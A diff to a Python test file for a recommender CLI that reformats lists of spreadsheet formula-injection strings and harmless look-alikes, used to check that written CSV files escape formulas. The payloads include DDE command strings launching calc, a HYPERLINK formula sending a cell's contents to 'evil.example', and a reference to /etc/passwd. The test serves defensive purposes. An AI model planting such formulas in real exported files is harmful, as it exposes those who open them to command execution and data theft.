@@ -15,10 +15,38 @@ from fedrec.data import read_table
 from fedrec.data.spreadsheet import guarded, unguarded
 from fedrec.serve import Recommender, read_history
 
-FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1)', "@SUM(1+1)*cmd|'/C calc'!A0", "+1+cmd|x!A",
-            "-2+3+cmd|x!A", "=1+1", "='file:///etc/passwd'#$a.A1", "＝1+1", "'=1+1", "''@a(b)", "\t=1+1"]  # fmt: skip
-HARMLESS = ["@alice", "-0dNq9xFkVw", "_x", "+49171234", "+49 171 234", "-5", "-1.5e-3", "1e+5", "=x", "a=b(c)",
-            "'quoted'", "'", "x@mail.example", "--", "- a title -", "(=1)", ""]  # fmt: skip
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    "+1+cmd|x!A",
+    "-2+3+cmd|x!A",
+    "=1+1",
+    "='file:///etc/passwd'#$a.A1",
+    "＝1+1",
+    "'=1+1",
+    "''@a(b)",
+    "\t=1+1",
+]
+HARMLESS = [
+    "@alice",
+    "-0dNq9xFkVw",
+    "_x",
+    "+49171234",
+    "+49 171 234",
+    "-5",
+    "-1.5e-3",
+    "1e+5",
+    "=x",
+    "a=b(c)",
+    "'quoted'",
+    "'",
+    "x@mail.example",
+    "--",
+    "- a title -",
+    "(=1)",
+    "",
+]
 PROTOCOL = ("--protocol", "honest,ks=3,select_metric=ndcg@3,min_interactions=3")
 
 
@@ -67,8 +95,13 @@ def test_every_file_that_is_written(cli: Cli, tmp_path: Path) -> None:
     assert cli("compare", "run", "--no-references", "--out", "table.csv").code == 0
     assert cli("data", "split", "mine.csv", *PROTOCOL, "--out", "split").code == 0
     assert cli("data", "import", "mine.csv", "--name", "kept").code == 0
-    found = [*tmp_path.glob("run/*.csv"), *tmp_path.glob("split/*.csv"), tmp_path / "recs.csv", tmp_path / "table.csv",
-             tmp_path / "cache" / "imported" / "kept.csv"]  # fmt: skip
+    found = [
+        *tmp_path.glob("run/*.csv"),
+        *tmp_path.glob("split/*.csv"),
+        tmp_path / "recs.csv",
+        tmp_path / "table.csv",
+        tmp_path / "cache" / "imported" / "kept.csv",
+    ]
     assert len(found) == 9
     for file in found:
         assert any(cell.startswith("'=") for cell in cells(file)), file
